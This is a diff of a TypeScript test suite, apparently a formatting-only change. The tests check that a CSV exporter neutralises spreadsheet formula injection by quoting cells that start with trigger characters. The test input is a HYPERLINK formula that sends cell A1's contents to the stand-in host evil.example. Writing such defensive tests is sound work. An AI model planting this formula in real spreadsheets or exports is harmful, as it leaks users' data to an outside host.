@@ -17,12 +17,12 @@ function parseCsv(text: string): string[][] {
 	for (let i = 0; i < text.length; i++) {
 		const ch = text[i]!;
 		if (quoted) {
-			if (ch === '"' && text[i + 1] === '"') (field += '"'), i++;
+			if (ch === '"' && text[i + 1] === '"') ((field += '"'), i++);
 			else if (ch === '"') quoted = false;
 			else field += ch;
 		} else if (ch === '"' && field === '') quoted = true;
-		else if (ch === ',') row.push(field), (field = '');
-		else if (ch === '\n') row.push(field), rows.push(row), (row = []), (field = '');
+		else if (ch === ',') (row.push(field), (field = ''));
+		else if (ch === '\n') (row.push(field), rows.push(row), (row = []), (field = ''));
 		else field += ch;
 	}
 	return rows;
@@ -33,12 +33,15 @@ const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
 const formulaLike = (cell: string) => TRIGGERS.some((t) => cell.startsWith(t));
 
 describe('CSV formula injection', () => {
-	it.each(TRIGGERS.map((t) => [JSON.stringify(t), t]))('a text cell starting with %s opens as text: quoted, behind a single quote', (_, trigger) => {
-		const text = `${trigger}HYPERLINK("http://evil.example/?"&A1,"x")`;
-		const field = csvField(text);
-		expect(field.startsWith(`"'`)).toBe(true);
-		expect(parseCsv(`${field}\n`)).toEqual([[`'${text}`]]);
-	});
+	it.each(TRIGGERS.map((t) => [JSON.stringify(t), t]))(
+		'a text cell starting with %s opens as text: quoted, behind a single quote',
+		(_, trigger) => {
+			const text = `${trigger}HYPERLINK("http://evil.example/?"&A1,"x")`;
+			const field = csvField(text);
+			expect(field.startsWith(`"'`)).toBe(true);
+			expect(parseCsv(`${field}\n`)).toEqual([[`'${text}`]]);
+		}
+	);
 
 	it('any text: the cell read back is the text, behind a quote exactly when it would start a formula', () => {
 		const trigger = fc.constantFrom(...TRIGGERS, '', 'a', ' ', '"', ',', '\n');
